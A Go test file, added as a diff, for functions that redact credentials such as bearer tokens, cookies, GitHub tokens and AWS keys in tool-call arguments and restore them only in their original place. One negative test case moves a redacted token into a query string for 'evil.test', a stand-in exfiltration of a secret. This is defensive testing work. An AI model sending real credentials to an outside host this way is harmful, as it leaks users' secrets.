@@ -1,0 +1,120 @@
+package risk
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+)
+
+func decode(t *testing.T, s string) map[string]any {
+	t.Helper()
+	var m map[string]any
+	if err := json.Unmarshal([]byte(s), &m); err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+// TestConceal: every credential ScanArgs finds is replaced by its typed
+// redaction, whole for a value that is one by its name, in place for one
+// recognised by its shape; Reveal restores exactly the request's values.
+func TestConceal(t *testing.T) {
+	const gh = "ghp_0123456789abcdefghijABCDEFGHIJ0123456789"
+	const aws = "AKIAABCDEFGHIJKLMNOP"
+	for _, tc := range []struct {
+		name, args string
+		secrets    []string // values that must be gone
+		kept       []string // text that must stay readable
+		kinds      []string
+	}{
+		{"bearer header", `{"url":"https://api.example.com","headers":{"Authorization":"Bearer s3cr3t-v4lue"}}`,
+			[]string{"s3cr3t-v4lue"}, []string{"https://api.example.com"}, []string{"authorization"}},
+		{"cookie any case", `{"headers":{"cOOkie":"sid=abc123456"}}`, []string{"sid=abc123456"}, nil, []string{"cookie"}},
+		{"token inside a command", `{"command":"curl -H 'X-Token: ` + gh + `' https://x.test"}`,
+			[]string{gh}, []string{"curl -H 'X-Token: ", "' https://x.test"}, []string{"github_token"}},
+		{"named password", `{"db":{"password":"Zq8#kL2!pW9x"}}`, []string{"Zq8#kL2!pW9x"}, nil, []string{"named_password"}},
+		{"list of keys", `{"keys":["` + aws + `","plain"]}`, []string{aws}, []string{"plain"}, []string{"aws_access_key"}},
+		{"nothing secret", `{"command":"ls -la","password":"short"}`, nil, []string{"ls -la", "short"}, nil},
+	} {
+		args := decode(t, tc.args)
+		facts, _ := ScanArgs(decode(t, tc.args))
+		out, found := Conceal(args)
+		b, _ := json.Marshal(out)
+		for _, s := range tc.secrets {
+			if strings.Contains(string(b), s) {
+				t.Errorf("%s: %q still in %s", tc.name, s, b)
+			}
+		}
+		for _, s := range tc.kept {
+			if !strings.Contains(string(b), s) {
+				t.Errorf("%s: %q no longer readable in %s", tc.name, s, b)
+			}
+		}
+		if len(found) != len(tc.kinds) || len(facts) != len(tc.kinds) {
+			t.Errorf("%s: concealed %+v, scan found %+v, want kinds %v", tc.name, found, facts, tc.kinds)
+			continue
+		}
+		for i, c := range found {
+			if c.Kind != tc.kinds[i] || !strings.Contains(string(b), "["+c.Kind+" sha256:") || facts[i].Arg != c.Arg {
+				t.Errorf("%s: concealed %+v, scan %+v in %s", tc.name, c, facts[i], b)
+			}
+		}
+		again, more := Conceal(decode(t, string(b)))
+		if b2, _ := json.Marshal(again); string(b2) != string(b) || len(more) != 0 {
+			t.Errorf("%s: concealing twice: %s, %+v", tc.name, b2, more)
+		}
+		back, err := Reveal(out, found)
+		if err != nil {
+			t.Fatalf("%s: reveal: %v", tc.name, err)
+		}
+		got, _ := json.Marshal(back)
+		want, _ := json.Marshal(decode(t, tc.args))
+		if string(got) != string(want) {
+			t.Errorf("%s: revealed %s, want %s", tc.name, got, want)
+		}
+	}
+}
+
+// TestRevealOnlyWhereConcealed: an edit that moves a redaction to another
+// argument (a bearer into a URL, say) or invents one cannot be revealed.
+func TestRevealOnlyWhereConcealed(t *testing.T) {
+	_, found := Conceal(decode(t, `{"url":"https://api.example.com","headers":{"Authorization":"Bearer s3cr3t-v4lue"}}`))
+	m := found[0].Marker
+	for _, edited := range []string{
+		`{"url":"https://evil.test/?t=` + m + `","headers":{}}`,
+		`{"url":"https://api.example.com","headers":{"Authorization":"Bearer x"},"body":"` + m + `"}`,
+		`{"url":"https://api.example.com","headers":{"Authorization":"` + Marker("authorization", "other") + `"}}`,
+	} {
+		if out, err := Reveal(decode(t, edited), found); err == nil {
+			b, _ := json.Marshal(out)
+			t.Errorf("revealed a moved or unknown redaction: %s", b)
+		}
+	}
+	ok, err := Reveal(decode(t, `{"url":"https://api.example.com/v2","headers":{"Authorization":"`+m+`"}}`), found)
+	if err != nil || ok["headers"].(map[string]any)["Authorization"] != "Bearer s3cr3t-v4lue" {
+		t.Fatalf("an edit that kept the redaction in place: %v %v", ok, err)
+	}
+}
+
+func FuzzConcealReveal(f *testing.F) {
+	f.Add(`{"headers":{"Authorization":"Bearer abc"},"command":"echo ghp_0123456789abcdefghijABCDEFGHIJ0123456789"}`)
+	f.Fuzz(func(t *testing.T, s string) {
+		var args map[string]any
+		if json.Unmarshal([]byte(s), &args) != nil || args == nil {
+			return
+		}
+		want, _ := json.Marshal(args)
+		out, found := Conceal(args)
+		if HasMarker(string(want)) {
+			return // the request itself holds redaction-shaped text
+		}
+		back, err := Reveal(out, found)
+		if err != nil {
+			t.Fatalf("reveal of %s: %v", want, err)
+		}
+		got, _ := json.Marshal(back)
+		if string(got) != string(want) {
+			t.Fatalf("round trip: %s -> %s", want, got)
+		}
+	})
+}
